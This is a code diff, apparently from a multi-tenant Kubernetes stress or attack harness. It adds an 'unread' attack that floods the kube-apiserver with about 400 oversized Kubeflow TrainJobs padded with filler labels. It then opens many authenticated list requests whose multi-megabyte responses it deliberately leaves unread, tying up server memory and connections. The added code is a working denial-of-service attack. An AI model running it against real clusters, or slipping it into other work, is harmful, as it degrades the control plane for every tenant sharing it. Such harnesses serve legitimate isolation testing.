@@ -31,6 +31,9 @@ LABELS = {f"jobset.sigs.k8s.io/{name}": "0" for name in ("jobset-name", "job-ind
 # etcd takes 1.5 MB; on the watch each < has six bytes.
 LARGE = "<" * 1_560_000
 CHURN_PER_S, CHURNED = 15.0, 10  # labels of so many jobs of the tenant's
+# 14 KB of each job; a list of so many of them fits no socket.
+FILLER, MANY_JOBS = {f"filler-{'x' * 50}-{number}": "x" * 63 for number in range(110)}, 400
+UNREAD_S = 12.0  # the server leaves who reads nothing for 10 s
 RETRY_S = 10.0  # after a watch was refused
 PUSHES_PER_S = 20.0  # of each pod: as many as it may
 
@@ -207,6 +210,41 @@ def of_namespace(tasks: int, request: Callable[[Target, int], tuple[str, str]]) 
                 connection[1].transport.abort()
 
         await crowd(tasks, one)
+
+    return attack
+
+
+def unread(connections: int) -> Attack:
+    """Lists of 7 MB through kube-apiserver, of which no more than the head is read, again and again."""
+
+    async def attack(target: Target) -> None:
+        under_way, target.is_under_way = target.is_under_way, asyncio.Event()
+        clients = [_Kube(target, place) for place in range(8)]
+        made = {"apiVersion": "trainer.kubeflow.org/v1alpha1", "kind": "TrainJob"}
+        made |= {"spec": {"runtimeRef": {"name": "torch"}}}
+
+        async def make(client: _Kube) -> None:
+            for _ in range(MANY_JOBS // len(clients)):
+                metadata = {"name": f"large-{number()}", "labels": FILLER | {ATTACK: "1"}}
+                await client.send("POST", TRAINJOBS, made | {"metadata": metadata})
+
+        await asyncio.gather(*map(make, clients))
+        path = f"{API}/namespaces/{target.access.namespace}/trainjobs"
+
+        async def one(place: int) -> None:
+            reader, writer = await target.connect(port=target.access.kube_port, receive_bytes=4096)
+            bearer = target.bearer(target.access.accounts[place % len(target.access.accounts)])
+            try:
+                writer.write(f"GET {path} HTTP/1.1\r\nHost: localhost\r\n{YAML}{bearer}\r\n".encode())
+                head = await reader.readuntil(b"\r\n\r\n")
+                target.answers[head.split()[1].decode()] += 1
+                writer.transport.pause_reading()  # type: ignore[attr-defined]  # of every socket's transport
+                under_way.set()
+                await asyncio.sleep(UNREAD_S)
+            finally:
+                writer.transport.abort()
+
+        await crowd(connections, one)
 
     return attack
 
